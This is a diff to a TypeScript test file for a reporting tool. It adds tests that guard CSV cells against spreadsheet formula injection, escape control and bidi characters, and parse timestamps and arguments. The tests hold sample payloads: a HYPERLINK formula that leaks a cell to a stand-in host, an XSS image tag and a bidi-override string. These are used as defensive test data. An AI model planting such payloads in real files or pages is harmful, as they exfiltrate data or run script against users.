@@ -2,10 +2,11 @@ import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../test/helpers/csv.js';
 import { parseInstant } from '../instant.js';
 import { renderDailyChart } from './chart.js';
-import { csvField, toCsv } from './csv.js';
+import { csvField, needsFormulaGuard, toCsv } from './csv.js';
 import { escapeHtml, renderPage } from './html.js';
 import { parseReportArgs, UsageError } from './options.js';
-import { formatCell, type ReportTable } from './table.js';
+import { instantText } from './queries.js';
+import { formatCell, type ReportTable, showControls, tableOf } from './table.js';
 
 const table = (rows: string[][]): ReportTable => ({
   name: 't',
@@ -15,6 +16,7 @@ const table = (rows: string[][]): ReportTable => ({
     { key: 'b', label: 'B' },
   ],
   rows,
+  total: rows.length,
 });
 
 describe('CSV (RFC 4180)', () => {
@@ -34,9 +36,58 @@ describe('CSV (RFC 4180)', () => {
       ['该基线检查, "SSH"', 'one\r\ntwo\nthree\r'],
       ['', '🔒 emoji'],
     ];
-    const text = toCsv(table(rows));
+    const text = toCsv(table(rows)).text;
     expect(text).toBe('a,b\r\n"该基线检查, ""SSH""","one\r\ntwo\nthree\r"\r\n,🔒 emoji\r\n');
     expect(parseCsv(text)).toEqual([['a', 'b'], ...rows]);
+  });
+
+  it('guards cells a spreadsheet would run as a formula (OWASP), never a plain number', () => {
+    const leak = '=HYPERLINK("http://x.example/?leak="&A1,"Fix")';
+    expect(csvField(leak)).toBe(`"'=HYPERLINK(""http://x.example/?leak=""&A1,""Fix"")"`);
+    expect(parseCsv(`${csvField(leak)}\r\n`)).toEqual([[`'${leak}`]]);
+    for (const [v, out] of [
+      ['+cmd', "'+cmd"],
+      ['-2+3', "'-2+3"],
+      ['@SUM(A1)', "'@SUM(A1)"],
+      ['\tx', "'\tx"],
+      ['\rx', `"'\rx"`],
+      ['-1e3', "'-1e3"],
+      ['-', "'-"],
+      ['-3', '-3'],
+      ['+1.5', '+1.5'],
+      ['12', '12'],
+      ['a=b', 'a=b'],
+      [' =x', ' =x'],
+    ] as const) {
+      expect(csvField(v), JSON.stringify(v)).toBe(out);
+    }
+    const t = table([
+      ['=1+1', '-5'],
+      ['@x', 'ok'],
+    ]);
+    expect(toCsv(t)).toEqual({ text: "a,b\r\n'=1+1,-5\r\n'@x,ok\r\n", guarded: 2 });
+    expect(needsFormulaGuard('-0.25')).toBe(false);
+  });
+
+  it('shows acting characters as \\uXXXX and keeps TAB, LF, CR and other text', () => {
+    expect(showControls('\u001b[31mred\u0007\u0008\u0000|\u007f\u009b')).toBe(
+      '\\u001b[31mred\\u0007\\u0008\\u0000|\\u007f\\u009b',
+    );
+    expect(showControls('\u202eevil\u202c \u2066x\u2069 \u200e\u200f \u202a\u202b\u202d')).toBe(
+      '\\u202eevil\\u202c \\u2066x\\u2069 \\u200e\\u200f \\u202a\\u202b\\u202d',
+    );
+    expect(showControls('a\tb\r\nc مرحبا 中文 🔒')).toBe('a\tb\r\nc مرحبا 中文 🔒');
+    const t = tableOf({ name: 't', title: 'T', columns: [{ key: 'a', label: 'A' }] }, [{ a: '\u001bx' }]);
+    expect(t.rows).toEqual([['\\u001bx']]);
+    expect(t.total).toBe(1);
+  });
+
+  it('reads instants from PostgreSQL as text with their microseconds', () => {
+    expect(instantText('2026-03-01 00:00:00.275123+00')).toBe('2026-03-01T00:00:00.275123Z');
+    expect(instantText('2026-03-01 00:00:00.2751+00')).toBe('2026-03-01T00:00:00.275100Z');
+    expect(instantText('2026-03-01 00:00:00.275+00')).toBe('2026-03-01T00:00:00.275Z');
+    expect(instantText('2026-03-01 00:00:00.275000+00')).toBe('2026-03-01T00:00:00.275Z');
+    expect(instantText('2026-03-01 00:00:00+00')).toBe('2026-03-01T00:00:00.000Z');
   });
 
   it('formats cells without locale or time zone', () => {
@@ -64,6 +115,7 @@ describe('HTML', () => {
         filters: { target: ['<t>'], enterpriseProject: null, imageType: null },
         toolVersion: '0.1.0',
         verify: 'not available',
+        brokenLinks: null,
       },
       [table([['<img src=x onerror=alert(1)>', '"中文"']])],
       '<svg></svg>',
@@ -134,6 +186,28 @@ describe('report arguments', () => {
     expect(() => parseReportArgs(['--as-of', '2026-03-01T00:00:00Z', '--out', 'x', '--days', '0'])).toThrow(
       /--days "0" is not a whole number/,
     );
+  });
+
+  it('keeps the microseconds of --as-of and refuses finer instants and unknown image types', () => {
+    const base = ['--out', 'x', '--as-of'];
+    expect(parseReportArgs([...base, '2026-03-01T08:00:00.275123+08:00']).asOfText).toBe(
+      '2026-03-01T00:00:00.275123Z',
+    );
+    expect(parseReportArgs([...base, '2026-03-01T00:00:00.275Z']).asOfText).toBe('2026-03-01T00:00:00.275Z');
+    expect(parseReportArgs([...base, '2026-03-01T00:00:00.275123000Z']).asOfText).toBe(
+      '2026-03-01T00:00:00.275123Z',
+    );
+    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00.2751234Z'])).toThrow(
+      /finer than a microsecond/,
+    );
+    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00Z', '--image-type', 'privat_image'])).toThrow(
+      /"privat_image" is not an image type \(did you mean private_image\?\)/,
+    );
+    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00Z', '--image-type', 'docker'])).toThrow(
+      /"docker" is not an image type; known: private_image,/,
+    );
+    expect(parseReportArgs([...base, '2026-03-01T00:00:00Z']).allowBroken).toBe(false);
+    expect(parseReportArgs([...base, '2026-03-01T00:00:00Z', '--allow-broken']).allowBroken).toBe(true);
   });
 
   it('takes filters repeated or comma-separated, sorted and unique', () => {
